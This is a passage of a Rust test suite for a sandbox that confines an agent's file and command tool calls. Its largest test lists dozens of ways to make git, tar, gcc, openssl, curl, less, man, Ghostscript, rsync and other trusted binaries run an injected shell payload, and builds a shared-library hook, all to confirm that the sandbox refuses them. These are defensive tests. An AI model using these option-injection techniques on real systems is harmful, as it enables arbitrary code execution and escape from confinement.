    let wide = env.personality(
        "wide.toml",
        "id = \"wide\"\n[fs_reach]\nread = [\"/\"]\n[safety.process]\nallow = [\"sh\", \"cat\"]\n",
    );
    // `toolcap ARGS` with `passwd` as `/etc/passwd`, and `HOME` as given (or none).
    let toolcap = |home_var: Option<&Path>, args: &[&str]| -> Option<Output> {
        let mut command = Command::new("unshare");
        command
            .args(["--mount", "--propagation", "private", "sh", "-c"])
            .arg("mount --bind \"$0\" /etc/passwd && exec \"$@\"")
            .arg(&passwd)
            .arg(env!("CARGO_BIN_EXE_toolcap"))
            .args(args)
            .env("XDG_DATA_HOME", env.root.join("data"))
            .env_remove("HOME")
            .env_remove("RUST_LOG")
            .current_dir(&env.root);
        if let Some(h) = home_var {
            command.env("HOME", h);
        }
        let out = command.output().unwrap();
        // Not root, or no right to mount: nothing this test can show.
        (!out.stderr.starts_with(b"unshare:") && !out.stderr.starts_with(b"mount:")).then_some(out)
    };
    let others_home = env.root.join("me");
    std::fs::create_dir_all(&others_home).unwrap();
    let script = format!("cat {} {}; echo end", key.display(), token.display());
    for home_var in [Some(others_home.as_path()), None] {
        for mode in MODES {
            for file in [&key, &token] {
                let call = serde_json::json!({"path": file}).to_string();
                let mut argv = vec!["call"];
                argv.extend_from_slice(mode);
                argv.extend(["--personality", &wide, "read_file", &call]);
                let Some(out) = toolcap(home_var, &argv) else {
                    assert!(!is_root(), "root could not bind a passwd file");
                    return;
                };
                let result: Value = serde_json::from_slice(&out.stdout)
                    .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
                assert_eq!(
                    result["code"], "denied",
                    "HOME={home_var:?} {mode:?}: {result}"
                );
            }
            let call = serde_json::json!({"binary": "sh", "args": ["-c", script]}).to_string();
            let mut argv = vec!["call"];
            argv.extend_from_slice(mode);
            argv.extend(["--personality", &wide, "run_command", &call]);
            let out = toolcap(home_var, &argv).unwrap();
            let result: Value = serde_json::from_slice(&out.stdout)
                .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
            let read = stdout_of(&result);
            assert!(
                read.ends_with("end\n"),
                "HOME={home_var:?} {mode:?}: {result}"
            );
            assert!(
                !read.contains(&canary()),
                "HOME={home_var:?} {mode:?}: {result}"
            );
        }
    }
}

// guarantee: G-POL-02
/// Class 7: a key given twice is a load error naming the key and its lines, in every format;
/// deep nesting is refused at once.
#[test]
fn policies_say_exactly_what_they_look_like() {
    let env = Env::new("");
    let cases = [
        (
            "dup.json",
            String::from(
                "{\"id\": \"x\", \"constraints\": {\"run_command\": {\"forbidden\": true},\n \"run_command\": {\"max_invocations\": 3}}}",
            ),
            "duplicate key \"run_command\" at lines 1 and 2",
        ),
        (
            "dup.yaml",
            String::from(
                "id: x\nconstraints:\n  run_command:\n    forbidden: true\n  run_command:\n    max_invocations: 3\n",
            ),
            "duplicate key \"run_command\" at lines 3 and 5",
        ),
        (
            "dup.toml",
            String::from(
                "id = \"x\"\n[constraints.run_command]\nforbidden = true\n[constraints.run_command]\nmax_invocations = 3\n",
            ),
            "TOML line 4",
        ),
        (
            "deep.yaml",
            format!("id: x\nconstraints: {}", "[".repeat(100_000)),
            "nested more than 64 levels deep",
        ),
        (
            "deep.json",
            format!("{{\"id\": \"x\", \"constraints\": {}", "[".repeat(100_000)),
            "nested more than 64 levels deep",
        ),
    ];
    for (name, text, message) in cases {
        let p = env.personality(name, &text);
        let started = Instant::now();
        let out = env.toolcap(&[
            "call",
            "--personality",
            &p,
            "run_command",
            r#"{"binary": "cat"}"#,
        ]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{name}: {stderr}");
        assert!(stderr.contains(message), "{name}: {stderr}");
        assert!(out.stdout.is_empty(), "{name}: nothing ran");
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "{name}: {:?}",
            started.elapsed()
        );
    }
}

// guarantee: G-POL-02
/// Class 7, continued: YAML's anchors and aliases let a short text stand for a far longer
/// document (one long string named once and repeated by alias, or lists of aliases of lists).
/// A personality file of under 1 MiB whose aliases expand it past 1 MiB, or past the parser's
/// own bound on repetitions, is refused with that said, before anything is built from it. The
/// command line runs with its address space capped at 2 GiB, so a parser that expanded the
/// 30 GB the first text stands for would die of it (it did: `memory allocation of 300000 bytes
/// failed`). Anchors and aliases that stay within the limit still load.
#[test]
fn a_yaml_policy_cannot_expand_itself_past_its_size_limit() {
    let env = Env::new("");
    let long = "x".repeat(300_000);
    let cases = [
        (
            "strings.yaml",
            format!(
                "id: x\ntoolset:\n  - &s {long}\n{}",
                "  - *s\n".repeat(100_000)
            ),
            "its anchors and aliases expand the document past 1048576 bytes",
        ),
        // Behind a number past 64 bits, which a string field takes as text and a walk that
        // stopped there would not have looked beyond (one did: the command line died of it).
        (
            "behind_a_big_number.yaml",
            format!(
                "id: x\ntoolset:\n  - 100000000000000000000000000\n  - &s {long}\n{}",
                "  - *s\n".repeat(100_000)
            ),
            "its anchors and aliases expand the document past 1048576 bytes",
        ),
        (
            "lists.yaml",
            {
                let mut text = String::from(
                    "id: x\nconstraints:\n  a0: &a0 [\"x\", \"x\", \"x\", \"x\", \"x\", \"x\", \"x\", \"x\"]\n",
                );
                for i in 1..9 {
                    let aliases = vec![format!("*a{}", i - 1); 8].join(", ");
                    text.push_str(&format!("  a{i}: &a{i} [{aliases}]\n"));
                }
                text
            },
            "its anchors and aliases expand the document by more repetitions than the YAML parser follows",
        ),
    ];
    // 2 GiB.
    let capped = |args: &[&str]| env.toolcap_capped(2 << 20, args);
    for (name, text, message) in cases {
        assert!(text.len() < 1 << 20, "{name} is under the text limit");
        let p = env.personality(name, &text);
        let started = Instant::now();
        let out = capped(&["validate", "--personality", &p]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{name}: {:?} {stderr}",
            out.status
        );
        assert!(stderr.contains(message), "{name}: {stderr}");
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "{name}: {:?}",
            started.elapsed()
        );
    }
    // Within the limit, an anchor names a list once for two places.
    let w = env.root.join("work").display().to_string();
    let p = env.personality(
        "aliased.yaml",
        &format!("id: x\nfs_reach:\n  read: &r [\"{w}\"]\n  write: *r\n"),
    );
    std::fs::write(env.root.join("work/note"), "aliased").unwrap();
    let out = capped(&[
        "call",
        "--personality",
        &p,
        "write_file",
        &format!(r#"{{"path": "{w}/written", "content": "ok"}}"#),
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(env.root.join("work/written")).unwrap(),
        "ok"
    );
}

// guarantee: G-CLI-01
/// Class 9: a closed output pipe ends in the documented exit code 2 with a message, never a
/// panic (101).
#[test]
fn a_closed_output_pipe_is_an_error_not_a_panic() {
    use std::io::Read;
    let env = Env::new("");
    let p = env.root.join("p.toml").display().to_string();
    for args in [
        vec![
            "call",
            "--personality",
            &p,
            "read_file",
            r#"{"path": "/etc/passwd"}"#,
        ],
        vec!["validate", "--personality", &p],
        vec!["manifest"],
    ] {
        // A pipe whose reader is gone before the child starts: its first write fails (EPIPE).
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let mut child = Command::new(env!("CARGO_BIN_EXE_toolcap"))
            .args(&args)
            .env("XDG_DATA_HOME", env.root.join("data"))
            .current_dir(env.root.join("work"))
            .stdout(writer)
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut stderr = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut stderr)
            .unwrap();
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(2), "{args:?}: {stderr}");
        assert!(
            stderr.contains("cannot write to stdout"),
            "{args:?}: {stderr}"
        );
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
    }
}

// guarantee: G-FS-04
/// Class 9: `a.txt/` names a directory; reading or writing it as a file fails as the OS would,
/// and nothing is written.
#[test]
fn a_trailing_slash_after_a_file_name_is_not_folded_away() {
    let env = Env::new("");
    std::fs::write(env.root.join("work/a.txt"), "alpha").unwrap();
    let p = env.root.join("p.toml").display().to_string();
    for mode in MODES {
        let call = |tool: &str, args: &str| {
            let mut argv = vec!["call"];
            argv.extend_from_slice(mode);
            argv.extend(["--personality", p.as_str(), tool, args]);
            let out = env.toolcap(&argv);
            (
                out.status.code(),
                String::from_utf8_lossy(&out.stdout).into_owned(),
            )
        };
        let (code, out) = call("read_file", r#"{"path": "a.txt/"}"#);
        assert_eq!(code, Some(1), "{mode:?}: {out}");
        assert!(out.contains("not a directory"), "{mode:?}: {out}");
        assert!(!out.contains("alpha"), "{mode:?}: {out}");
        let (code, out) = call("write_file", r#"{"path": "out/b.txt/", "content": "x"}"#);
        assert_eq!(code, Some(1), "{mode:?}: {out}");
        assert!(
            !env.root.join("work/out/b.txt").exists(),
            "{mode:?}: a file was written"
        );
        let (code, out) = call("read_file", r#"{"path": "a.txt"}"#);
        assert_eq!(
            (code, out.contains("alpha")),
            (Some(0), true),
            "{mode:?}: {out}"
        );
    }
}

/// A shell payload that prints [`RAN`] when it runs and tries to make `marker`. Its text holds
/// `$((6*7))`, not the mark, so a refusal that quotes the call does not contain the mark.
fn payload(marker: &Path) -> String {
    format!("echo RAN-$((6*7)) >&2; touch {}", marker.display())
}

/// Builds `hook.so` in `dir`: a library whose constructor prints [`RAN`] on stderr when anything
/// loads it. It names the entry points OpenSSH looks for in a file before it loads it as a
/// PKCS#11 or security key provider.
fn hook_library(dir: &Path) -> PathBuf {
    let source = dir.join("hook.c");
    std::fs::write(
        &source,
        format!(
            "#include <unistd.h>\n#include <string.h>\n\
             __attribute__((constructor)) static void hook(void) {{\n\
             const char *m = \"{RAN}\\n\"; write(2, m, strlen(m)); }}\n\
             int C_GetFunctionList(void *list) {{ return 1; }}\n\
             unsigned int sk_api_version(void) {{ return 0; }}\n"
        ),
    )
    .unwrap();
    let library = dir.join("hook.so");
    let built = Command::new("cc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(&library)
        .arg(&source)
        .status()
        .unwrap();
    assert!(built.success(), "cc builds the hook library");
    library
}

/// An OpenSSL configuration whose provider section loads `library` (curl, wget, python and
/// openssl itself read one).
fn openssl_config_loading(library: &Path) -> String {
    format!(
        "openssl_conf = init\n[init]\nproviders = providers\n[providers]\nhook = hook\n\
         [hook]\nmodule = {}\nactivate = 1\n",
        library.display()
    )
}

/// Everything a `toolcap` run printed, its standard output then its error (a child's output
/// travels in the result on the first).
fn printed(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// What [`payload`] prints when it runs.
const RAN: &str = "RAN-42";

/// Checks on the forbidden side that a payload did not run: its mark is in nothing the call
/// printed (the child's output travels in the result), and its marker file is absent.
fn nothing_ran(out: &Output, marker: &Path, what: &str) {
    let everything = printed(out);
    assert!(
        !everything.contains(RAN),
        "{what}: the payload ran: {everything}"
    );
    assert!(!marker.exists(), "{what}: the payload made its marker");
}

/// In both modes: `call` under `personality`, which lists the variable `name` in
/// `safety.env.allow`, ends before anything runs: the personality is refused when it loads
/// (exit 2, naming the field), and the payload left no mark.
fn refused_at_load(env: &Env, personality: &str, call: &Value, name: &str, marker: &Path) {
    for mode in MODES {
        let out = env.run_command(mode, personality, call);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{mode:?} {name}: {stderr}");
        assert!(
            stderr.contains("safety.env.allow[0]") && stderr.contains(name),
            "{mode:?} {name}: {stderr}"
        );
        nothing_ran(&out, marker, &format!("{mode:?} {name}"));
    }
}

// guarantee: G-PROC-02, G-PROC-03
/// Class 6: the child's environment is an allow list (a variable that steers a trusted binary,
/// such as `XDG_CONFIG_HOME` pointing git at a configuration with a shell alias, is refused), and
/// options that make an allowed binary run another program (`git --upload-pack`, `-c`) are
/// refused by default. The marker file the payload would create stays absent.
#[test]
fn nothing_steers_a_trusted_binary_into_running_a_program() {
    let env = Env::new("");
    let p = env.personality(
        "git.toml",
        &format!(
            "id = \"git\"\n[fs_reach]\nread = [\"{w}\"]\n[safety.process]\nallow = [\"git\"]\n",
            w = env.root.join("work").display()
        ),
    );
    let marker = env.root.join("work/out/pwned");
    let config = env.root.join("work/cfg/git");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(
        config.join("config"),
        format!("[alias]\n\tx = !touch {}\n", marker.display()),
    )
    .unwrap();
    let payload = payload(&marker);
    let cases = [
        (
            serde_json::json!({"binary": "git", "args": ["x"],
                "env": {"XDG_CONFIG_HOME": env.root.join("work/cfg")}}),
            "ENV_NOT_ALLOWED",
        ),
        (
            serde_json::json!({"binary": "git", "args": ["x"],
                "env": {"GIT_DIR": env.root.join("work/cfg")}}),
            "ENV_NOT_ALLOWED",
        ),
        (
            serde_json::json!({"binary": "git",
                "args": ["ls-remote", format!("--upload-pack={payload}"), "."]}),
            "ARGS_NOT_ALLOWED",
        ),
        (
            serde_json::json!({"binary": "git",
                "args": ["-c", format!("alias.y=!{payload}"), "y"]}),
            "ARGS_NOT_ALLOWED",
        ),
        (
            serde_json::json!({"binary": "git",
                "args": ["clone", format!("ext::sh -c {payload}"), "x"]}),
            "ARGS_NOT_ALLOWED",
        ),
    ];
    for mode in MODES {
        for (call, code) in &cases {
            let out = env.run_command(mode, &p, call);
            let stdout = String::from_utf8_lossy(&out.stdout);
            assert_eq!(out.status.code(), Some(1), "{mode:?} {call}: {stdout}");
            assert!(stdout.contains(code), "{mode:?} {call}: {stdout}");
            nothing_ran(&out, &marker, &format!("{mode:?} {call}"));
        }
    }
}

// guarantee: G-PROC-03
/// Options that run a program are refused however the program lets them be spelled, not only
/// as the documentation writes them: git and GNU tar accept a long option by any unambiguous
/// abbreviation (`--upl=`, `--use-compr=`), a short option with its value attached (`-ucmd`,
/// `-ccore.sshCommand=cmd`) or inside a cluster (`-qu cmd`, `-cvI cmd`), and tar reads its
/// first argument as a cluster without a dash (`tar cIf cmd`); git's `rebase -x`, `grep -O`
/// and `difftool -x` run a program too, as do GNU sort's `--compress-program`, diff3's
/// `--diff-program`, wget's `use_askpass` set by `-e` or read from `--config`'s file, sftp's
/// `-D`, git's own `remote-ext` and `daemon --access-hook`, tar's `-M`, whose prompt for the
/// next volume starts a shell, the C compiler's `-wrapper`, less's key file, whose
/// `LESSOPEN` is a command, man's configuration file, groff's unsafe mode, and the libraries
/// openssl (and curl, through it) loads as an engine or a provider, GNU split's `--filter`,
/// the agent, dirmngr and photo viewer programs gpg is given, and rsync's daemon mode;
/// Mercurial's `--config`, `--debugger`, `debugshell`, command server and `-e` (by its
/// abbreviations of options and commands), and Subversion's `--config-option`, `--config-dir`,
/// `--diff-cmd` and `--editor-cmd`, and pygmentize's `-x` (a lexer from a Python file). Each of
/// these ran its program through the real program;
/// each is refused
/// before the child starts, and the marker the payload would create stays absent.
#[test]
fn an_option_that_runs_a_program_is_refused_in_every_spelling_its_program_accepts() {
    let env = Env::new("");
    let w = env.root.join("work");
    let p = env.personality(
        "spelling.toml",
        &format!(
            "id = \"spelling\"\n[fs_reach]\nread = [\"{w}\"]\nwrite = [\"{w}\"]\n\
             [safety.process]\nallow = [\"git\", \"tar\", \"sort\", \"diff3\", \"wget\", \"sftp\", \"cc\", \"gcc\", \"less\", \"man\", \
             \"groff\", \"nroff\", \"openssl\", \"curl\", \"split\", \"gpg\", \"rsync\", \"ssh-keygen\", \"nm\", \"ld\", \"gs\", \"ps2pdf\", \"keytool\", \"apt-get\", \"dpkg\", \"gpg-connect-agent\", \"pic\", \"hg\", \"svn\", \"svnrdump\", \"pygmentize\"]\n",
            w = w.display()
        ),
    );
    let marker = w.join("out/pwned");
    let payload = payload(&marker);
    // wget runs its askpass program with the question as its one argument: `sh` given
    // "Username for 'http://127.0.0.1': " runs the file of that name, planted here.
    let question = w.join("Username for 'http:/");
    std::fs::create_dir_all(&question).unwrap();
    std::fs::write(question.join("127.0.0.1': "), format!("{payload}\n")).unwrap();
    std::fs::write(w.join("wgetrc"), "use_askpass = sh\n").unwrap();
    let url = "http://127.0.0.1:9/";
    std::fs::write(w.join("t.c"), "int main(void) { return 0; }\n").unwrap();
    std::fs::write(w.join("ld-options"), "-plugin ./hook.so\n").unwrap();
    std::fs::write(w.join("a.ps"), "%!PS\nshowpage\n").unwrap();
    std::fs::write(w.join("t.pic"), format!(".PS\nsh X {payload} X\n.PE\n")).unwrap();
    std::fs::write(
        w.join("apt.conf"),
        format!("APT::Update::Pre-Invoke {{ \"{payload}\"; }};\n"),
    )
    .unwrap();
    std::fs::write(w.join("gs-options"), "-dNOSAFER\n").unwrap();
    std::fs::create_dir_all(w.join("gslib")).unwrap();
    std::fs::write(
        w.join("gslib/gs_init.ps"),
        format!("10000\n(%pipe%{payload}) (w) file closefile\n"),
    )
    .unwrap();
    std::fs::write(
        w.join("gcc-options"),
        format!("-wrapper sh,-c,\"{payload}\"\n"),
    )
    .unwrap();
    std::fs::write(
        w.join("keys"),
        format!("#env\nLESSOPEN=|{payload}; cat %s\n"),
    )
    .unwrap();
    std::fs::write(w.join("a.txt"), "alpha").unwrap();
    std::fs::write(w.join("page.1"), format!(".TH X 1\n.sy {payload}\nhello\n")).unwrap();
    std::fs::write(
        w.join("man.conf"),
        format!("DEFINE\tnroff\tsh -c '{payload}; cat'\nDEFINE\ttbl\tsh -c '{payload}; cat'\n"),
    )
    .unwrap();
    let library = hook_library(&w);
    let hook = library.display().to_string();
    std::fs::write(w.join("hook.cnf"), openssl_config_loading(&library)).unwrap();
    let to_sh = format!("{}bin/sh", "../".repeat(w.components().count() - 1));
    // As whoever runs the test (a daemon started by root otherwise takes `nobody`'s ids, which
    // a child without capabilities cannot).
    let owner = std::fs::metadata(&w).unwrap();
    std::fs::write(
        w.join("rsyncd.conf"),
        format!(
            "use chroot = no\nuid = {}\ngid = {}\n[m]\npath = {}\nread only = yes\n\
             pre-xfer exec = {payload}\n",
            std::os::unix::fs::MetadataExt::uid(&owner),
            std::os::unix::fs::MetadataExt::gid(&owner),
            w.display()
        ),
    )
    .unwrap();
    std::fs::write(w.join("big"), vec![7u8; 30_000]).unwrap();
    let volumes = Command::new("tar")
        .args(["-cM", "-L", "20", "-f", "v1.tar", "-f", "v2.tar", "big"])
        .current_dir(&w)
        .status()
        .unwrap();
    assert!(volumes.success());
    // A Subversion working copy with a change, for `svn diff`, and what its programs run.
    let svn = |program: &str, args: &[&str]| {
        let done = Command::new(program)
            .args(args)
            .current_dir(&w)
            .output()
            .unwrap();
        assert!(
            done.status.success(),
            "{program} {args:?}: {}",
            printed(&done)
        );
    };
    svn("svnadmin", &["create", "svnrepo"]);
    let repository = format!("file://{}", w.join("svnrepo").display());
    svn("svn", &["checkout", "-q", &repository, "wc"]);
    std::fs::write(w.join("wc/f"), "one\n").unwrap();
    svn("svn", &["add", "-q", "wc/f"]);
    svn("svn", &["commit", "-q", "-m", "one", "wc"]);
    std::fs::write(w.join("wc/f"), "two\n").unwrap();
    let script = w.join("run.sh");
    std::fs::write(&script, format!("{payload}\n")).unwrap();
    let tunnel = format!("x=sh -c \"{payload}\"");
    std::fs::create_dir_all(w.join("svncfg")).unwrap();
    std::fs::write(w.join("svncfg/config"), format!("[tunnels]\n{tunnel}\n")).unwrap();
    // Mercurial's command server reads `runcommand`, a length and the arguments from its
    // standard input (the length one byte here, so the frame is text).
    let frame = |args: &[&str]| {
        let args = args.join("\0");
        assert!(args.len() < 0x80, "{args}");
        format!(
            "runcommand\n\0\0\0{}{args}",
            char::from(u8::try_from(args.len()).unwrap())
        )
    };
    let alias = format!("alias.x=!{payload}");
    // A Pygments lexer of the caller's own: Python, run as pygmentize loads it.
    std::fs::write(
        w.join("lexer.py"),
        format!(
            "import os\nos.system('''{payload}''')\nfrom pygments.lexer import RegexLexer\n\
             class L(RegexLexer):\n    tokens = {{'root': []}}\n"
        ),
    )
    .unwrap();
    let bare = w.join("r.git");
    let made = Command::new("git")
        .args(["init", "-q", "--bare"])
        .arg(&bare)
        .status()
        .unwrap();
    assert!(made.success());
    // The hook's first line of output is the refusal `--informative-errors` sends back.
    std::fs::write(
        bare.join("upload-pack"),
        format!("{payload}\necho {RAN}\nexit 1\n"),
    )
    .unwrap();
    let request = format!("git-upload-pack {}\0host=localhost\0", bare.display());
    let daemon_request = format!("{:04x}{request}", request.len() + 4);
    let git = |args: Vec<String>| serde_json::json!({"binary": "git", "args": args});
    let tar = |args: Vec<String>| serde_json::json!({"binary": "tar", "args": args});
    let other =
        |binary: &str, args: Vec<String>| serde_json::json!({"binary": binary, "args": args});
    let s = |parts: &[&str]| parts.iter().map(|p| (*p).to_owned()).collect::<Vec<_>>();
    // Ghostscript quiet, with no pause, ending when its input does.
    let gs = |rest: &[&str]| {
        other(
            "gs",
            s(&[&["-q", "-dBATCH", "-dNOPAUSE"][..], rest].concat()),
        )
    };
    let postscript_pipe = format!("(%pipe%{payload}) (w) file closefile");
    let cases = [
        git(s(&["ls-remote", &format!("--upl={payload}"), "."])),
        git(s(&["fetch", &format!("--upload-p={payload}"), "."])),
        git(s(&["clone", "-qu", &payload, ".", "d1"])),
        git(s(&["clone", &format!("-u{payload}"), ".", "d2"])),
        git(s(&[
            "clone",
            &format!("-ccore.sshCommand={payload}"),
            "ssh://h/x",
            "d3",
        ])),
        git(s(&[
            "clone",
            "-qc",
            &format!("core.sshCommand={payload}"),
            "ssh://h/x",
            "d4",
        ])),
        git(s(&[
            "clone",
            "--conf",
            &format!("core.sshCommand={payload}"),
            "ssh://h/x",
            "d5",
        ])),
        git(s(&[
            "clone",
            &format!("--config=core.sshCommand={payload}"),
            "ssh://h/x",
            "d6",
        ])),
        git(s(&["rebase", "-x", &payload, "HEAD~1"])),
        git(s(&["grep", &format!("-O{payload}"), "alpha"])),
        git(s(&["difftool", "-y", "-x", &payload, "HEAD~1"])),
        tar(s(&["cIf", &payload, "out.tar", "a.txt"])),
        tar(s(&["cfI", "out.tar", &payload, "a.txt"])),
        tar(s(&["-cvI", &payload, "-f", "out.tar", "a.txt"])),
        tar(s(&[
            &format!("--use-compr={payload}"),
            "-cf",
            "out.tar",
            "a.txt",
        ])),
        tar(s(&["-xf", "in.tar", &format!("--to-comm={payload}")])),
        tar(s(&["-xvF", &payload, "-f", "in.tar"])),
        tar(s(&[
            "-xf",
            "in.tar",
            "--checkpoint=1",
            &format!("--checkpoint-act=exec={payload}"),
        ])),
        // Text utilities that look harmless: GNU sort and diff3 run the program they are given.
        other(
            "sort",
            s(&["-S", "1K", &format!("--compress-p={payload}"), "a.txt"]),
        ),
        other(
            "diff3",
            s(&[
                &format!("--diff-program={payload}"),
                "a.txt",
                "a.txt",
                "a.txt",
            ]),
        ),
        // wget sets any line of its configuration from `-e` (the command's name read without
        // `-` and `_`, in any case), and reads a whole file of it from `--config`.
        other("wget", s(&["-e", "use_askpass=sh", url])),
        other("wget", s(&["-qe", "Use-AskPass=sh", url])),
        other("wget", s(&["-euse_askpass=sh", url])),
        other("wget", s(&["--exe", "use_askpass = sh", url])),
        other("wget", s(&["--execute=USEASKPASS=sh", url])),
        other("wget", s(&["--config=wgetrc", url])),
        other("wget", s(&["--conf", "wgetrc", url])),
        // git's transport helper for `ext::` addresses, started as a command of its own, runs
        // its argument (`% ` is its escaped space) when asked to connect on its standard input.
        serde_json::json!({"binary": "git",
            "args": ["remote-ext", "x", format!("sh -c {}", payload.replace(' ', "% "))],
            "stdin": "connect git-upload-pack\n"}),
        // git daemon runs its `--access-hook` for each request, read from its standard input
        // with `--inetd`: `sh` runs the planted `upload-pack` in the repository asked for.
        serde_json::json!({"binary": "git",
            "args": ["daemon", "--inetd", "--export-all", "--informative-errors",
                "--access-hook=sh"],
            "stdin": daemon_request}),
        // GNU tar asks for the next volume of a multi-volume archive on its standard input,
        // where `!` starts a shell that reads what follows (past the 8 KiB tar's stdio reads).
        serde_json::json!({"binary": "tar", "args": ["-tM", "-f", "v1.tar"],
            "stdin": format!("!\n{}\n{payload}\nexit\n", "#".repeat(8190))}),
        serde_json::json!({"binary": "tar", "args": ["--multi-vol", "-tf", "v1.tar"],
            "stdin": format!("!\n{}\n{payload}\nexit\n", "#".repeat(8190))}),
        serde_json::json!({"binary": "tar", "args": ["tMf", "v1.tar"],
            "stdin": format!("!\n{}\n{payload}\nexit\n", "#".repeat(8190))}),
        // The C compiler runs each of its stages under the program `-wrapper` names.
        other(
            "gcc",
            s(&[
                "-wrapper",
                &format!("sh,-c,{payload}"),
                "-fsyntax-only",
                "t.c",
            ]),
        ),
        other(
            "cc",
            s(&[
                "-fsyntax-only",
                "-wrapper",
                &format!("sh,-c,{payload}"),
                "t.c",
            ]),
        ),
        // less reads a key file's `#env` section, whose `LESSOPEN` is a command it runs for
        // each file, also when its output is not a terminal.
        other("less", s(&["--lesskey-src=keys", "a.txt"])),
        other("less", s(&["--lesskey-s", "keys", "a.txt"])),
        // man runs the programs its configuration file defines (`-C`) as its formatters, and
        // groff in its unsafe mode (`-U`) the `.sy` requests of the page it formats.
        other("man", s(&["-C", "man.conf", "-l", "page.1"])),
        other("man", s(&["--config-f=man.conf", "-l", "page.1"])),
        other("groff", s(&["-U", "-Tutf8", "page.1"])),
        other("nroff", s(&["-U", "page.1"])),
        // openssl loads the library `-engine` names (a path is tried as the file of a dynamic
        // engine), and the providers of `-provider`/`-provider-path` and of `-config`'s file.
        other(
            "openssl",
            s(&["dgst", "-sha256", "-engine", "./hook.so", "a.txt"]),
        ),
        other(
            "openssl",
            s(&["dgst", "-sha256", "-engine=./hook.so", "a.txt"]),
        ),
        other(
            "openssl",
            s(&["dgst", "-provider-path", ".", "-provider", "hook", "a.txt"]),
        ),
        other("openssl", s(&["req", "-config", "hook.cnf", "-new"])),
        // curl hands `--engine` to OpenSSL, which loads an absolute path as an engine's file.
        other("curl", s(&["--engine", &hook, "-s", url])),
        other("curl", s(&[&format!("--eng={hook}"), "-s", url])),
        // GNU split hands each piece to `--filter`'s shell command, and needs no write for it.
        serde_json::json!({"binary": "split", "args": [format!("--filter={payload}")],
            "stdin": "abc\n"}),
        serde_json::json!({"binary": "split", "args": ["-l", "1", "--filt", &payload],
            "stdin": "abc\n"}),
        // gpg starts the agent and dirmngr programs it is given (`PGM|OPTIONS` adds options;
        // outside the sandbox a planted script ran: in it only system programs run, with the
        // arguments gpg puts first).
        serde_json::json!({"binary": "gpg", "args": ["--batch", "--agent-program",
            "sh|-c|true", "--pinentry-mode", "loopback", "--passphrase", "x", "-c"],
            "stdin": "hi\n"}),
        other(
            "gpg",
            s(&["--batch", "--dirmngr-prog=sh", "--recv-keys", "0x12345678"]),
        ),
        // pic runs a picture's `sh` commands when it is unsafe (`-U`).
        other("pic", s(&["-U", "t.pic"])),
        other("pic", s(&["-nU", "t.pic"])),
        // gpg-connect-agent runs the rest of its command line as the server it talks to (named
        // from the working directory, as the argument gate reads no relative path).
        other("gpg-connect-agent", s(&["--exec", &to_sh, "-c", &payload])),
        other("gpg-connect-agent", s(&["-E", &to_sh, "-c", &payload])),
        other(
            "gpg",
            s(&["--photo-viewer", "sh -c x", "--show-keys", "a.txt"]),
        ),
        // rsync as a daemon speaking its protocol on its standard input runs the `pre-xfer
        // exec` command of the module asked for in the configuration `--config` names (it ran
        // outside toolcap; a confined child run by root stops at `setgroups` first, having no
        // capability, and one run by another user would not).
        serde_json::json!({"binary": "rsync",
            "args": ["--server", "--daemon", "--config=rsyncd.conf", "."],
            "stdin": "@RSYNCD: 31.0\nm\n--server\n--sender\n.\nm/\n\n"}),
        serde_json::json!({"binary": "rsync", "args": ["--daem", "--conf", "rsyncd.conf"],
            "stdin": "@RSYNCD: 31.0\nm\n\n"}),
        // gcc hands the linker the options of `-Wl,` and `-Xlinker`, and the compiler proper
        // those of `-Wp,`: ld loads the plugin `-plugin` names, cc1 the one `-fplugin` names
        // (each ran the library's code from a call); nm and ld load theirs themselves.
        other("gcc", s(&["-Wl,-plugin,./hook.so", "-o", "t.out", "t.c"])),
        other("gcc", s(&["-Wl,--plugin=./hook.so", "-o", "t.out", "t.c"])),
        other(
            "gcc",
            s(&["-Xlinker", "--plugin=./hook.so", "-o", "t.out", "t.c"]),
        ),
        other(
            "gcc",
            s(&["-Wp,-fplugin=./hook.so", "-fsyntax-only", "t.c"]),
        ),
        other("cc", s(&["-Wl,-O1,@ld-options", "-o", "t.out", "t.c"])),
        other("nm", s(&["--plugin", "./hook.so", "hook.so"])),
        other("nm", s(&["--plu=./hook.so", "hook.so"])),
        other("ld", s(&["-plugin", "./hook.so", "-o", "x", "t.o"])),
        other("ld", s(&["--plugin=./hook.so", "-o", "x", "t.o"])),
        // Ghostscript writes its output into a command's standard input (`|cmd`, `%pipe%cmd`) and
        // starts the IJS server program it is given, under its default `-dSAFER`; without it
        // (`-dNOSAFER`, `-dDELAYSAFER`) a document opens `%pipe%` itself; it runs the
        // initialisation files of the directories `-I` names (and of the working directory,
        // with `-P`) before it turns safe; and reads more options from `@file`. Each ran the
        // payload from a call.
        gs(&[
            "-sDEVICE=pbmraw",
            &format!("-sOutputFile=|{payload}"),
            "a.ps",
        ]),
        gs(&["-sDEVICE=pbmraw", "-o", &format!("%pipe%{payload}"), "a.ps"]),
        gs(&[
            "-sDEVICE=ijs",
            &format!("-sIjsServer={payload}"),
            "-sOutputFile=-",
            "a.ps",
        ]),
        gs(&["-DNOSAFER", "-dNODISPLAY", "-c", &postscript_pipe]),
        gs(&["-Igslib", "-sDEVICE=bbox", "a.ps"]),
        gs(&["@gs-options", "-dNODISPLAY", "-c", &postscript_pipe]),
        other("ps2pdf", s(&["a.ps", &format!("|{payload}")])),
